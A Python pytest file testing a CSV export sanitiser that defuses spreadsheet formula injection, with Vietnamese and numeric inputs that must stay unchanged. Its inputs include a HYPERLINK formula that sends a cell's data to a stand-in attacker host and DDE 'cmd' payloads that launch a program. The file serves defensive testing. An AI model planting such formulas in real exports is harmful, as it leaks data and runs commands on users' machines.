from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dti.exports import inert

STARTS_A_FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "|", "%", "＝", "＋", "－", "＠")


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
        "=cmd|'/C calc'!A0",
        "+SUM(A1)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1)",
        "  =1+1",
        "\t=1",
        "\r=1",
        "\n=1",
        '"=1+1"',
        "'=1",
        "\ufeff=1",
        "\u200b=1",
        "＝1+1",
        "|calc",
        "%0A=1",
        "- Sở Y tế",
        "−1+1",
    ],
)
def test_what_a_spreadsheet_would_run_is_only_shown(text: str) -> None:
    assert inert(text) == f"'{text}"


@pytest.mark.parametrize(
    "text",
    ["", "Sở Y tế", "-12,5", "+84905123456", "-1.234.567,89", "1e-7", "-", "a=b", "x@y.vn", "Bà Rịa - Vũng Tàu", "66"],
)
def test_what_it_would_not_run_stays_as_it_is(text: str) -> None:
    assert inert(text) == text


@given(st.lists(st.text(alphabet=st.characters(codec="utf-8"), max_size=20), min_size=1, max_size=6))
def test_no_cell_of_a_written_csv_begins_a_formula(texts: list[str]) -> None:
    written = io.StringIO(newline="")
    csv.writer(written).writerow([inert(text) for text in texts])
    (read,) = csv.reader(io.StringIO(written.getvalue(), newline=""), strict=True)
    for text, cell in zip(texts, read, strict=True):
        assert cell in (text, f"'{text}")
        runs = cell.startswith(STARTS_A_FORMULA)
        assert not runs or set(cell) <= set("0123456789.,eE+-"), "only a number or a lone dash may begin like one"
